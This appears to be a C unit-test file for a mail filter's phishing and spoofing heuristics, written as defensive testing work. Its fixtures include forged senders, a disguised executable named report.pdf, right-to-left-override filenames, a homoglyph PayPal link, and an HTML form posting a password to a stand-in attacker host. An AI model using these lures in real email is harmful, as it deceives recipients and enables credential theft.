/* Tests for src/checks/heuristics.c: identity, date, attachment and URL symbols. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <string.h>

#include "checks/heuristics.h"
#include "checks/symbols.h"
#include "core/arena.h"
#include "message/message.h"
#include "scan/result.h"

/* Thu, 22 Aug 2002 10:00:00 +0000, the Date most samples below carry. */
#define T_2002 1030010400LL
#define DAY    86400LL

#define HDRS "Date: Thu, 22 Aug 2002 10:00:00 +0000\nMessage-ID: <1@example.com>\n"

static struct symbol_registry *reg;
static struct heuristics_ids ids;

struct run {
    struct message *m;
    struct scan_result *r;
};

/* Parses raw with the given envelope, runs the heuristics; free with run_free(). */
static struct run run_env(const char *raw, const char *mail_from, const char *rcpt,
                          const char *const *dkim, size_t n_dkim, long long now)
{
    struct envelope env = {0};
    const char *rcpts[1] = {rcpt};
    struct run run;

    env.mail_from = mail_from;
    if (rcpt) {
        env.rcpt = rcpts;
        env.n_rcpt = 1;
    }
    run.m = message_parse(raw, strlen(raw), &env);
    run.r = arena_calloc(run.m->arena, 1, sizeof *run.r);
    result_init(run.r, run.m->arena, reg);
    heuristics_check(&ids, run.m, dkim, n_dkim, now, run.r);
    return run;
}

static struct run run_plain(const char *raw)
{
    return run_env(raw, NULL, NULL, NULL, 0, T_2002);
}

static const struct symbol_hit *hit(const struct run *run, const char *name)
{
    int id = symbols_lookup(reg, name);
    assert_true(id >= 0);
    return result_find(run->r, id);
}

static void run_free(struct run *run)
{
    message_free(run->m);
}

/* Asserts that name fires on raw (checking the first option when want_option is set). */
static void assert_fires(const char *raw, const char *name, const char *want_option)
{
    struct run run = run_plain(raw);
    const struct symbol_hit *h = hit(&run, name);
    assert_non_null(h);
    if (want_option) {
        assert_true(h->n_options > 0);
        assert_string_equal(h->options[0], want_option);
    }
    run_free(&run);
}

static void assert_quiet(const char *raw, const char *name)
{
    struct run run = run_plain(raw);
    assert_null(hit(&run, name));
    run_free(&run);
}

/* ---- FORGED_SENDER and FROM_SPOOFS_RCPT_DOMAIN ---- */

static const char *const forged_msg = HDRS "From: Bank <alerts@bank.example>\nSubject: x\n\nhi\n";

static void test_forged_sender_fires_when_envelope_domain_differs(void **state)
{
    struct run run = run_env(forged_msg, "bounce@mailer.invalid-host.net", NULL, NULL, 0, T_2002);
    const struct symbol_hit *h = hit(&run, "FORGED_SENDER");
    (void)state;
    assert_non_null(h);
    assert_string_equal(h->options[0], "from=bank.example envelope=mailer.invalid-host.net");
    run_free(&run);
}

static void test_forged_sender_quiet_for_subdomain_of_same_organisation(void **state)
{
    struct run run = run_env(HDRS "From: <news@example.co.uk>\n\nhi\n",
                             "bounces@mail.example.co.uk", NULL, NULL, 0, T_2002);
    (void)state;
    assert_null(hit(&run, "FORGED_SENDER"));
    run_free(&run);
}

static void test_forged_sender_quiet_when_dkim_vouches_for_from(void **state)
{
    const char *dkim[] = {"esp.example", "mail.bank.example"};
    struct run run = run_env(forged_msg, "bounce@esp.example", NULL, dkim, 2, T_2002);
    (void)state;
    assert_null(hit(&run, "FORGED_SENDER"));
    run_free(&run);
    /* A signature of some other domain does not help. */
    run = run_env(forged_msg, "bounce@esp.example", NULL, dkim, 1, T_2002);
    assert_non_null(hit(&run, "FORGED_SENDER"));
    run_free(&run);
}

static void test_forged_sender_quiet_for_bounces_and_unknown_envelope(void **state)
{
    struct run run = run_env(forged_msg, "", NULL, NULL, 0, T_2002);
    (void)state;
    assert_null(hit(&run, "FORGED_SENDER"));
    run_free(&run);
    run = run_env(forged_msg, NULL, NULL, NULL, 0, T_2002);
    assert_null(hit(&run, "FORGED_SENDER"));
    run_free(&run);
}

static void test_list_mail_is_not_forged_and_may_redirect_replies(void **state)
{
    const char *raw = HDRS "From: Ann <ann@home.example>\nReply-To: talk@lists.example.org\n"
                           "List-Id: <talk.lists.example.org>\n\nhi all\n";
    struct run run = run_env(raw, "talk-bounces@lists.example.org", NULL, NULL, 0, T_2002);
    (void)state;
    assert_null(hit(&run, "FORGED_SENDER"));
    assert_null(hit(&run, "REPLY_TO_DIFFERS"));
    run_free(&run);
}

static void test_from_spoofing_recipient_domain(void **state)
{
    const char *raw = HDRS "From: CEO <ceo@corp.example>\nSubject: urgent\n\npay now\n";
    struct run run = run_env(raw, "x@elsewhere.example", "clerk@corp.example", NULL, 0, T_2002);
    (void)state;
    assert_non_null(hit(&run, "FORGED_SENDER"));
    assert_non_null(hit(&run, "FROM_SPOOFS_RCPT_DOMAIN"));
    run_free(&run);
    /* Same From and recipient, but sent through the domain's own envelope: fine. */
    run = run_env(raw, "ceo@corp.example", "clerk@corp.example", NULL, 0, T_2002);
    assert_null(hit(&run, "FROM_SPOOFS_RCPT_DOMAIN"));
    run_free(&run);
    /* Forged, but not the recipient's domain. */
    run = run_env(raw, "x@elsewhere.example", "someone@other.example", NULL, 0, T_2002);
    assert_null(hit(&run, "FROM_SPOOFS_RCPT_DOMAIN"));
    run_free(&run);
}

/* ---- dates and required headers ---- */

static void test_date_syntax(void **state)
{
    (void)state;
    assert_true(heuristics_date_syntax_ok("Thu, 22 Aug 2002 10:00:00 +0000"));
    assert_true(heuristics_date_syntax_ok("22 Aug 2002 10:00 -0700 (PDT)"));
    assert_true(heuristics_date_syntax_ok(" Mon, 2 Sep 02 23:59:60 GMT"));
    assert_true(heuristics_date_syntax_ok("Fri, 6 Sep 2002 14:22:01 EDT"));
    assert_false(heuristics_date_syntax_ok("2002-08-22 10:00:00"));
    assert_false(heuristics_date_syntax_ok("Thu, 22 Aug 2002"));
    assert_false(heuristics_date_syntax_ok("Thu, 32 Aug 2002 10:00:00 +0000"));
    assert_false(heuristics_date_syntax_ok("Thu, 22 Foo 2002 10:00:00 +0000"));
    assert_false(heuristics_date_syntax_ok("Thu, 22 Aug 2002 25:00:00 +0000"));
    assert_false(heuristics_date_syntax_ok("Thu, 22 Aug 2002 10:00:00 +0000 trailing"));
    assert_false(heuristics_date_syntax_ok("Thursday 22 Aug 2002 10:00:00 +0000"));
    assert_false(heuristics_date_syntax_ok(""));
}

static void test_missing_and_invalid_date(void **state)
{
    (void)state;
    assert_fires("Message-ID: <1@x.example>\nFrom: a@x.example\n\nhi\n", "MXW_MISSING_DATE", NULL);
    assert_quiet("Message-ID: <1@x.example>\nFrom: a@x.example\n\nhi\n", "MXW_INVALID_DATE");
    assert_fires("Date: yesterday at noon\nFrom: a@x.example\n\nhi\n", "MXW_INVALID_DATE",
                 "yesterday at noon");
    assert_fires("Date: 2002-08-22 10:00:00\nFrom: a@x.example\n\nhi\n", "MXW_INVALID_DATE", NULL);
    assert_quiet(HDRS "From: a@x.example\n\nhi\n", "MXW_INVALID_DATE");
    assert_quiet(HDRS "From: a@x.example\n\nhi\n", "MXW_MISSING_DATE");
}

static void test_date_in_future_and_past(void **state)
{
    const char *raw = HDRS "From: a@x.example\n\nhi\n";
    struct run run;
    (void)state;
    run = run_env(raw, NULL, NULL, NULL, 0, T_2002 - 2 * DAY);
    assert_non_null(hit(&run, "DATE_IN_FUTURE"));
    assert_string_equal(hit(&run, "DATE_IN_FUTURE")->options[0], "48 hours ahead");
    run_free(&run);
    run = run_env(raw, NULL, NULL, NULL, 0, T_2002 - DAY / 2);
    assert_null(hit(&run, "DATE_IN_FUTURE"));
    run_free(&run);
    run = run_env(raw, NULL, NULL, NULL, 0, T_2002 + 400 * DAY);
    assert_non_null(hit(&run, "DATE_IN_PAST"));
    run_free(&run);
    run = run_env(raw, NULL, NULL, NULL, 0, T_2002 + 300 * DAY);
    assert_null(hit(&run, "DATE_IN_PAST"));
    assert_null(hit(&run, "DATE_IN_FUTURE"));
    run_free(&run);
    /* Without an arrival time nothing is compared. */
    run = run_env(raw, NULL, NULL, NULL, 0, 0);
    assert_null(hit(&run, "DATE_IN_PAST"));
    run_free(&run);
}

static void test_missing_message_id_and_from(void **state)
{
    (void)state;
    assert_fires("Date: Thu, 22 Aug 2002 10:00:00 +0000\nFrom: a@x.example\n\nhi\n",
                 "MISSING_MESSAGE_ID", NULL);
    assert_quiet(HDRS "From: a@x.example\n\nhi\n", "MISSING_MESSAGE_ID");
    assert_fires(HDRS "Subject: hi\n\nhi\n", "MXW_MISSING_FROM", "no From header");
    assert_fires(HDRS "From: undisclosed sender\n\nhi\n", "MXW_MISSING_FROM", "no address in From");
    assert_quiet(HDRS "From: A <a@x.example>\n\nhi\n", "MXW_MISSING_FROM");
}

/* ---- Reply-To, display name, subject ---- */

static void test_reply_to_other_domain_and_freemail(void **state)
{
    const char *freemail =
        HDRS "From: Billing <billing@shop.example>\nReply-To: billing.dept@gmail.com\n\nhi\n";
    const char *yahoo = HDRS "From: a@shop.example\nReply-To: a@yahoo.co.uk\n\nhi\n";
    const char *other = HDRS "From: a@shop.example\nReply-To: help@desk.example\n\nhi\n";
    const char *same = HDRS "From: a@shop.example\nReply-To: help@support.shop.example\n\nhi\n";
    (void)state;
    assert_fires(freemail, "REPLY_TO_DIFFERS", "from=shop.example reply-to=gmail.com");
    assert_fires(freemail, "REPLY_TO_FREEMAIL", "gmail.com");
    assert_fires(yahoo, "REPLY_TO_FREEMAIL", "yahoo.co.uk");
    assert_fires(other, "REPLY_TO_DIFFERS", NULL);
    assert_quiet(other, "REPLY_TO_FREEMAIL");
    assert_quiet(same, "REPLY_TO_DIFFERS");
    /* Free-mail From replying to the same free-mail domain is ordinary. */
    assert_quiet(HDRS "From: a@gmail.com\nReply-To: b@gmail.com\n\nhi\n", "REPLY_TO_FREEMAIL");
}

static void test_from_name_with_foreign_address(void **state)
{
    (void)state;
    assert_fires(HDRS "From: \"service@paypal.com\" <x@cheap-host.example>\n\nhi\n",
                 "FROM_NAME_HAS_ADDRESS", "name shows service@paypal.com, from=cheap-host.example");
    assert_quiet(HDRS "From: \"bob@corp.example\" <bob@mail.corp.example>\n\nhi\n",
                 "FROM_NAME_HAS_ADDRESS");
    assert_quiet(HDRS "From: \"Bob @ Corp\" <bob@corp.example>\n\nhi\n", "FROM_NAME_HAS_ADDRESS");
}

static void test_subject_with_recipient_address(void **state)
{
    const char *raw = HDRS "From: it@helpdesk.example\n"
                           "Subject: Mailbox quota exceeded for Clerk@Corp.example\n\nhi\n";
    struct run run = run_env(raw, NULL, "<clerk@corp.example>", NULL, 0, T_2002);
    (void)state;
    assert_non_null(hit(&run, "SUBJECT_HAS_RCPT_ADDRESS"));
    run_free(&run);
    run = run_env(raw, NULL, "boss@corp.example", NULL, 0, T_2002);
    assert_null(hit(&run, "SUBJECT_HAS_RCPT_ADDRESS"));
    run_free(&run);
}

/* ---- attachments ---- */

#define MULTI_HEAD                                                                                 \
    HDRS "From: a@x.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n\n"     \
         "--B\nContent-Type: text/plain\n\nsee attached\n--B\n"

static void test_executable_attachment_by_name(void **state)
{
    const char *raw = MULTI_HEAD "Content-Type: application/octet-stream; name=\"setup.EXE\"\n"
                                 "Content-Disposition: attachment; filename=\"setup.EXE\"\n\n"
                                 "xxxx\n--B--\n";
    (void)state;
    assert_fires(raw, "ATTACH_EXECUTABLE", "setup.EXE");
    assert_quiet(raw, "ATTACH_DISGUISED");
    assert_fires(MULTI_HEAD "Content-Type: text/plain\nContent-Disposition: attachment; "
                            "filename=\"run.js\"\n\nalert(1)\n--B--\n",
                 "ATTACH_EXECUTABLE", "run.js");
}

static void test_double_extension_is_disguised(void **state)
{
    const char *raw = MULTI_HEAD "Content-Type: application/octet-stream\n"
                                 "Content-Disposition: attachment; "
                                 "filename=\"invoice.pdf      .scr\"\n\nxxxx\n--B--\n";
    (void)state;
    assert_fires(raw, "ATTACH_EXECUTABLE", NULL);
    assert_fires(raw, "ATTACH_DISGUISED", "invoice.pdf      .scr");
}

static void test_program_bytes_under_document_name(void **state)
{
    /* "MZ\x90\0\3\0\0\0\4\0\0\0" base64-encoded: a Windows program called report.pdf. */
    const char *raw =
        MULTI_HEAD "Content-Type: application/pdf\nContent-Transfer-Encoding: base64\n"
                   "Content-Disposition: attachment; filename=\"report.pdf\"\n\n"
                   "TVqQAAMAAAAEAAAA\n--B--\n";
    const char *pdf =
        MULTI_HEAD "Content-Type: application/pdf\nContent-Transfer-Encoding: base64\n"
                   "Content-Disposition: attachment; filename=\"report.pdf\"\n\n"
                   "JVBERi0xLjQK\n--B--\n";
    (void)state;
    assert_fires(raw, "ATTACH_EXECUTABLE", "report.pdf");
    assert_fires(raw, "ATTACH_DISGUISED", "report.pdf");
    assert_quiet(pdf, "ATTACH_EXECUTABLE");
    assert_quiet(pdf, "ATTACH_DISGUISED");
    assert_quiet(pdf, "ATTACH_ONLY");
}

static void test_right_to_left_override_name_is_disguised(void **state)
{
    (void)state;
    assert_fires(MULTI_HEAD "Content-Type: application/octet-stream\nContent-Disposition: "
                            "attachment; filename*=UTF-8''photo%E2%80%AEgpj.exe\n\nxx\n--B--\n",
                 "ATTACH_DISGUISED", NULL);
}

static void test_macro_documents_and_disk_images(void **state)
{
    (void)state;
    assert_fires(MULTI_HEAD "Content-Type: application/octet-stream\nContent-Disposition: "
                            "attachment; filename=\"Q3 figures.xlsm\"\n\nxx\n--B--\n",
                 "ATTACH_MACRO", "Q3 figures.xlsm");
    assert_quiet(MULTI_HEAD "Content-Type: application/octet-stream\nContent-Disposition: "
                            "attachment; filename=\"Q3 figures.xlsx\"\n\nxx\n--B--\n",
                 "ATTACH_MACRO");
    assert_fires(MULTI_HEAD "Content-Type: application/octet-stream\nContent-Disposition: "
                            "attachment; filename=\"DHL_delivery.iso\"\n\nxx\n--B--\n",
                 "ATTACH_DISK_IMAGE", "DHL_delivery.iso");
}

static void test_attachment_without_text(void **state)
{
    const char *bare = HDRS "From: a@x.example\nMIME-Version: 1.0\n"
                            "Content-Type: multipart/mixed; boundary=B\n\n--B\n"
                            "Content-Type: text/plain\n\n  \n--B\n"
                            "Content-Type: application/pdf\nContent-Disposition: attachment; "
                            "filename=\"scan.pdf\"\n\n%PDF-1.4\n--B--\n";
    (void)state;
    assert_fires(bare, "ATTACH_ONLY", NULL);
    assert_quiet(HDRS "From: a@x.example\n\nno attachment here\n", "ATTACH_ONLY");
}

/* ---- URLs ---- */

static void test_url_flags(void **state)
{
    (void)state;
    assert_fires(HDRS "From: a@x.example\n\nGo to http://3232235777/login now\n",
                 "URL_NUMERIC_HOST", "http://3232235777/login");
    assert_quiet(HDRS "From: a@x.example\n\nGo to http://192.168.1.1/login now\n",
                 "URL_NUMERIC_HOST");
    assert_fires(HDRS "From: a@x.example\n\nhttp://www.bank.example@evil.example/x\n",
                 "URL_USERINFO", NULL);
    assert_quiet(HDRS "From: a@x.example\n\nhttp://www.bank.example/x\n", "URL_USERINFO");
    assert_fires(HDRS "From: a@x.example\nContent-Type: text/plain; charset=utf-8\n\n"
                      "http://p\xd0\xb0ypal.com/login\n",
                 "URL_MIXED_SCRIPT", "xn--pypal-4ve.com");
    assert_quiet(HDRS "From: a@x.example\n\nhttp://paypal.com/login\n", "URL_MIXED_SCRIPT");
}

static void test_html_form_posting_to_a_server(void **state)
{
    (void)state;
    assert_fires(HDRS "From: a@x.example\nContent-Type: text/html\n\n<p>Verify</p>"
                      "<form action=\"https://collect.evil.example/p\" method=post>"
                      "<input name=pw type=password></form>\n",
                 "HTML_FORM_EXTERNAL", "collect.evil.example");
    assert_quiet(HDRS "From: a@x.example\nContent-Type: text/html\n\n<p>Hello "
                      "<a href=\"https://evil.example/\">x</a></p>\n",
                 "HTML_FORM_EXTERNAL");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_forged_sender_fires_when_envelope_domain_differs),
        cmocka_unit_test(test_forged_sender_quiet_for_subdomain_of_same_organisation),
        cmocka_unit_test(test_forged_sender_quiet_when_dkim_vouches_for_from),
        cmocka_unit_test(test_forged_sender_quiet_for_bounces_and_unknown_envelope),
        cmocka_unit_test(test_list_mail_is_not_forged_and_may_redirect_replies),
        cmocka_unit_test(test_from_spoofing_recipient_domain),
        cmocka_unit_test(test_date_syntax),
        cmocka_unit_test(test_missing_and_invalid_date),
        cmocka_unit_test(test_date_in_future_and_past),
        cmocka_unit_test(test_missing_message_id_and_from),
        cmocka_unit_test(test_reply_to_other_domain_and_freemail),
        cmocka_unit_test(test_from_name_with_foreign_address),
        cmocka_unit_test(test_subject_with_recipient_address),
        cmocka_unit_test(test_executable_attachment_by_name),
        cmocka_unit_test(test_double_extension_is_disguised),
        cmocka_unit_test(test_program_bytes_under_document_name),
        cmocka_unit_test(test_right_to_left_override_name_is_disguised),
        cmocka_unit_test(test_macro_documents_and_disk_images),
        cmocka_unit_test(test_attachment_without_text),
        cmocka_unit_test(test_url_flags),
        cmocka_unit_test(test_html_form_posting_to_a_server),
    };
    int rc;
    message_library_init();
    reg = symbols_new();
    heuristics_register(reg, &ids);
    rc = cmocka_run_group_tests(tests, NULL, NULL);
    symbols_free(reg);
    message_library_shutdown();
    return rc;
}
